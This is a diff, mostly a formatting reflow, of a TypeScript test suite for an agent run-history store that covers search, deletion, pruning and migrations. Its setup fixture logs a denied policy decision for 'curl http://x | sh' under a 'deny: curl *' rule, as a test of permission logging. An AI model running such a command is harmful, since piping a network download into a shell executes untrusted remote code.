@@ -25,16 +25,45 @@ before(async () => {
   engine = await HistoryEngine.open({ path: ws.db, now: () => NOW });
   parserRun = engine.startRun({ goal: 'Make the date parser accept ISO weeks', reasoningModel: 'm-large', startedAt: NOW - 2 * DAY });
   engine.addStep(parserRun, { role: 'user', text: 'Make the date parser accept ISO weeks', time: NOW - 2 * DAY });
-  engine.addStep(parserRun, { role: 'tool', tool: 'read_file', arguments: { path: 'src/parse.ts' }, result: 'function parseDate(text) { return zanzibar(text) }', time: NOW - 2 * DAY + 1 });
+  engine.addStep(parserRun, {
+    role: 'tool',
+    tool: 'read_file',
+    arguments: { path: 'src/parse.ts' },
+    result: 'function parseDate(text) { return zanzibar(text) }',
+    time: NOW - 2 * DAY + 1,
+  });
   engine.addPatch(parserRun, {
     text: '--- a/src/parse.ts\n+++ b/src/parse.ts\n@@ -1 +1 @@\n-old\n+weekday support\n',
     files: ['src/parse.ts'],
     acceptedHunks: ['src/parse.ts#1'],
     rejectedHunks: [{ id: 'src/parse.ts#2', state: 'rejected', reason: 'keep the legacy quirkiness' }],
   });
-  engine.addTestRun({ runId: parserRun, command: 'npm test', trigger: 'agent', exitCode: 1, durationMs: 900, output: 'FAIL parse.test.js expected Tuesday got Monday', time: NOW - 2 * DAY + 2 });
-  engine.addPolicyDecision({ runId: parserRun, kind: 'command', subject: 'curl http://x | sh', verdict: 'deny', rule: 'deny: curl *', reason: 'network download piped to a shell', time: NOW - 2 * DAY + 3 });
-  engine.recordObservation({ runId: parserRun, tool: 'grep', insight: 'the parser lives in src/parse.ts', result: 'src/parse.ts:1 function parseDate', isError: false, time: NOW - 2 * DAY + 4 });
+  engine.addTestRun({
+    runId: parserRun,
+    command: 'npm test',
+    trigger: 'agent',
+    exitCode: 1,
+    durationMs: 900,
+    output: 'FAIL parse.test.js expected Tuesday got Monday',
+    time: NOW - 2 * DAY + 2,
+  });
+  engine.addPolicyDecision({
+    runId: parserRun,
+    kind: 'command',
+    subject: 'curl http://x | sh',
+    verdict: 'deny',
+    rule: 'deny: curl *',
+    reason: 'network download piped to a shell',
+    time: NOW - 2 * DAY + 3,
+  });
+  engine.recordObservation({
+    runId: parserRun,
+    tool: 'grep',
+    insight: 'the parser lives in src/parse.ts',
+    result: 'src/parse.ts:1 function parseDate',
+    isError: false,
+    time: NOW - 2 * DAY + 4,
+  });
   engine.finishRun(parserRun, { status: 'finished', steps: 2, endedAt: NOW - 2 * DAY + 60_000 });
   oldRun = engine.startRun({ goal: 'Old parser cleanup from last year', startedAt: NOW - 400 * DAY });
   engine.addStep(oldRun, { role: 'assistant', text: 'Removed the parser shim', time: NOW - 400 * DAY });
@@ -145,13 +174,22 @@ describe('deleting runs', () => {
       const r = e.deleteRun(doomed);
       assert.equal(r.deleted, 6);
       assert.equal(e.getRun(doomed), undefined);
-      assert.deepEqual(e.searchHistory('quokka').hits.map((h) => h.id), [kept]);
+      assert.deepEqual(
+        e.searchHistory('quokka').hits.map((h) => h.id),
+        [kept],
+      );
       assert.deepEqual(e.deleteRun(doomed), { deleted: 0 }, 'deleting twice is a no-op');
       e.close();
       // On disk too: a fresh engine reading the file sees the same.
       const again = await HistoryEngine.open({ path: ws2.db, now: () => NOW });
-      assert.deepEqual(again.listRuns().map((x) => x.goal), ['kept quokka run']);
-      assert.deepEqual(again.searchHistory('quokka').hits.map((h) => h.id), [kept]);
+      assert.deepEqual(
+        again.listRuns().map((x) => x.goal),
+        ['kept quokka run'],
+      );
+      assert.deepEqual(
+        again.searchHistory('quokka').hits.map((h) => h.id),
+        [kept],
+      );
       again.close();
     } finally {
       ws2.cleanup();
@@ -168,7 +206,13 @@ describe('deleting runs', () => {
       e.startRun({ goal: 'old but still running', startedAt: NOW - 40 * DAY });
       e.startRun({ goal: 'recent', startedAt: NOW - DAY });
       assert.equal(e.prune({ maxRunAgeDays: 30 }).deleted, 2);
-      assert.deepEqual(e.listRuns().map((r) => r.goal).sort(), ['old but still running', 'recent']);
+      assert.deepEqual(
+        e
+          .listRuns()
+          .map((r) => r.goal)
+          .sort(),
+        ['old but still running', 'recent'],
+      );
       assert.throws(() => e.prune({ maxRunAgeDays: -1 }), /maxRunAgeDays/);
     } finally {
       e.close();
@@ -186,13 +230,21 @@ describe('migration 5 (the indexes of everything)', () => {
       migrate(old, 3);
       old.run(`INSERT INTO runs (id, goal, status, started_at) VALUES ('r1', 'legacy wombat goal', 'succeeded', 1)`);
       old.run(`INSERT INTO steps (id, run_id, seq, role, result, tool, time) VALUES ('s1', 'r1', 1, 'tool', 'a wombat in the output', 'grep', 2)`);
-      old.run(`INSERT INTO test_runs (id, run_id, command, trigger, exit_code, duration_ms, output_tail, time) VALUES ('t1', 'r1', 'npm test', 'agent', 3, 5, 'wombat failed', 3)`);
+      old.run(
+        `INSERT INTO test_runs (id, run_id, command, trigger, exit_code, duration_ms, output_tail, time) VALUES ('t1', 'r1', 'npm test', 'agent', 3, 5, 'wombat failed', 3)`,
+      );
       mkdirSync(path.dirname(ws2.db), { recursive: true });
       writeFileSync(ws2.db, old.export());
       old.close();
       const e = await HistoryEngine.open({ path: ws2.db });
       try {
-        assert.deepEqual(e.searchHistory('wombat').hits.map((h) => h.kind).sort(), ['run', 'step', 'test']);
+        assert.deepEqual(
+          e
+            .searchHistory('wombat')
+            .hits.map((h) => h.kind)
+            .sort(),
+          ['run', 'step', 'test'],
+        );
         assert.equal(e.getRun('r1')!.patches.length, 0);
       } finally {
         e.close();
@@ -226,7 +278,7 @@ describe('search as you type', () => {
   });
 });
 
-describe('the model\'s reasoning is kept but not a search result', () => {
+describe("the model's reasoning is kept but not a search result", () => {
   test('a model/reasoning step is in the run and its timeline; searching its words finds only the real steps', async () => {
     const ws2 = tempHistoryWorkspace();
     try {
@@ -235,7 +287,10 @@ describe('the model\'s reasoning is kept but not a search result', () => {
         const r = e.startRun({ goal: 'fix the parser' });
         e.addStep(r, { role: 'system', tool: REASONING_STEP, text: 'pondering the okapi question at length' });
         e.addStep(r, { role: 'assistant', text: 'the okapi is fine' });
-        assert.deepEqual(e.searchHistory('okapi').hits.map((h) => `${h.kind}:${h.title}`), ['step:Model message']);
+        assert.deepEqual(
+          e.searchHistory('okapi').hits.map((h) => `${h.kind}:${h.title}`),
+          ['step:Model message'],
+        );
         assert.deepEqual(e.searchHistory('pondering').hits, []);
         const item = runTimeline(e.getRun(r)!).items.find((i) => i.kind === 'message' && i.text.includes('pondering'));
         assert.match((item as { text: string }).text, /^The model's reasoning:\npondering the okapi/);
@@ -250,7 +305,7 @@ describe('the model\'s reasoning is kept but not a search result', () => {
 });
 
 describe('conversation copies are not search results', () => {
-  test('a run\'s context/transcript and context/earlier copies are not hits; the steps they copy are; the file stays sound', async () => {
+  test("a run's context/transcript and context/earlier copies are not hits; the steps they copy are; the file stays sound", async () => {
     const ws2 = tempHistoryWorkspace();
     try {
       const e = await HistoryEngine.open({ path: ws2.db });
@@ -261,9 +316,28 @@ describe('conversation copies are not search results', () => {
         const r2 = e.startRun({ goal: 'and the walruses?' });
         e.addStep(r2, { role: 'system', tool: 'context/earlier', arguments: [{ role: 'assistant', content: 'three narwhals' }] });
         e.addStep(r2, { role: 'assistant', text: 'walruses too' });
-        assert.deepEqual(e.searchHistory('narwhals').hits.map((h) => `${h.kind}:${h.title}`).sort(), ['run:Goal', 'step:Model message']);
-        assert.deepEqual(e.searchHistory('walruses').hits.map((h) => `${h.kind}:${h.title}`).sort(), ['run:Goal', 'step:Model message']);
-        assert.deepEqual(e.searchHistory('narwhals', { since: 0 }).hits.map((h) => h.kind).sort(), ['run', 'step'], 'the time-filtered plan filters too');
+        assert.deepEqual(
+          e
+            .searchHistory('narwhals')
+            .hits.map((h) => `${h.kind}:${h.title}`)
+            .sort(),
+          ['run:Goal', 'step:Model message'],
+        );
+        assert.deepEqual(
+          e
+            .searchHistory('walruses')
+            .hits.map((h) => `${h.kind}:${h.title}`)
+            .sort(),
+          ['run:Goal', 'step:Model message'],
+        );
+        assert.deepEqual(
+          e
+            .searchHistory('narwhals', { since: 0 })
+            .hits.map((h) => h.kind)
+            .sort(),
+          ['run', 'step'],
+          'the time-filtered plan filters too',
+        );
         // The index still mirrors its table: SQLite's own check (run when the store opens) passes.
         assert.equal(e.db.conn.get<{ integrity_check: string }>('PRAGMA integrity_check')?.integrity_check, 'ok');
       } finally {
